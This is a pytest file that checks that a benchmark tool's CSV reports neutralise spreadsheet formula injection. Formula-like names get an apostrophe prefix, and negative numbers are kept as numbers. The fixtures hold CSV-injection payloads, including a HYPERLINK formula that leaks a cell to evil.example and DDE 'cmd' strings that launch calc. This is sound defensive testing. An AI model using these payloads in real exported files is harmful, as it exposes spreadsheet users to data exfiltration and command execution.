"""CSV is opened in spreadsheets: a run named like a formula must reach them as text, and numbers as numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from orchestrator.report.deploy import tradeoff_frame
from orchestrator.report.frame import samples_frame, summary_frame
from orchestrator.report.render import render_text
from orchestrator.store import Store
from tests.conftest import run_cli

# A spreadsheet runs a cell that starts with any of = + - @ tab or CR (OWASP, "CSV Injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
# What a spreadsheet reads for each: text (a carriage return becomes a line feed, which the writer quotes).
AS_TEXT = ["'" + name.replace("\r", "\n") for name in FORMULAS]


def _run(store: Store, run_id: str, name: str | None, samples: list[dict[str, object]]) -> None:
    store.create_run(run_id, provider="local", suite="deploy", name=name, spec={})
    store.finish_run(run_id, state="succeeded", duration_s=10.0, error=None, log_tail=None,
                     results={"m": {"host": {}, "software": {}, "timings": {}, "errors": [], "samples": samples}},
                     costs=[])


def _deploy(variant: str, metric: str, value: float) -> dict[str, object]:
    return {"benchmark": "deploy", "metric": metric, "value": value, "unit": "-",
            "metadata": {"variant": variant, "format": "tflite", "model": "small_cnn"}}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    with Store(tmp_path) as store:
        for i, name in enumerate(FORMULAS):
            _run(store, f"r-{i}", name, [
                {"benchmark": "train_throughput", "metric": "images_per_sec", "value": 100.0 + i, "unit": "",
                 "metadata": {"model": "cnn", "batch_size": 32}},
            ])
        _run(store, "r-deploy", "-0.28", [
            _deploy("float32", "model_bytes", 400.0), _deploy("float32", "accuracy_delta", 0.0),
            _deploy("=cmd|'/C calc'!A0", "model_bytes", 100.0), _deploy("=cmd|'/C calc'!A0", "accuracy_delta", -0.28),
        ])
    return tmp_path


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_run_named_like_a_formula_is_text_in_the_summary_csv(home: Path) -> None:
    with Store(home) as store:
        summary = summary_frame(samples_frame(store, [f"r-{i}" for i in range(len(FORMULAS))]))
    names = [row["name"] for row in _rows(render_text(summary, "csv"))]
    assert names == AS_TEXT
    # JSON keeps the data as it is: only the spreadsheet-bound format is changed.
    assert [record["name"] for record in json.loads(render_text(summary, "json"))] == FORMULAS


def test_the_samples_csv_neutralises_text_but_keeps_negative_numbers(home: Path) -> None:
    with Store(home) as store:
        samples = samples_frame(store, ["r-deploy"])
    rows = _rows(render_text(samples, "csv"))
    assert {row["variant"] for row in rows} == {"float32", "'=cmd|'/C calc'!A0"}
    assert {row["name"] for row in rows} == {"-0.28"}  # text that is only a number is no formula
    assert "-0.28" in [row["value"] for row in rows]


def test_the_deploy_tables_csv_neutralises_a_variant_and_keeps_its_negative_delta(home: Path) -> None:
    with Store(home) as store:
        table = tradeoff_frame(samples_frame(store, ["r-deploy"]))
    rows = {row["variant"]: row for row in _rows(render_text(table, "csv"))}
    assert set(rows) == {"float32", "'=cmd|'/C calc'!A0"}
    assert float(rows["'=cmd|'/C calc'!A0"]["Δ acc pts"]) == pytest.approx(-0.28)


def test_column_names_and_mixed_columns_are_neutralised_and_numbers_kept() -> None:
    from orchestrator.report.render import spreadsheet_frame

    frame = pd.DataFrame({"=evil.metric": [1.5, -2.0], "note": ["@x", -0.5], "ok": ["a-b", None]})
    safe = spreadsheet_frame(frame)
    assert list(safe.columns) == ["'=evil.metric", "note", "ok"]
    assert safe["'=evil.metric"].tolist() == [1.5, -2.0]
    assert safe["note"].tolist() == ["'@x", -0.5]
    assert safe["ok"].tolist()[0] == "a-b"
    assert list(frame.columns)[0] == "=evil.metric" and frame["note"].tolist()[0] == "@x"  # the input is kept


def test_report_format_csv_writes_formulas_as_text(home: Path) -> None:
    result = run_cli(home, "report", "--all", "--format", "csv")
    assert result.returncode == 0, result.stderr
    names = {row["name"] for row in _rows(result.stdout)}
    assert set(AS_TEXT) <= names
    deploy = run_cli(home, "report", "r-deploy", "--view", "deploy", "--format", "csv")
    assert deploy.returncode == 0, deploy.stderr
    assert "'=cmd|'/C calc'!A0" in {row["variant"] for row in _rows(deploy.stdout)}
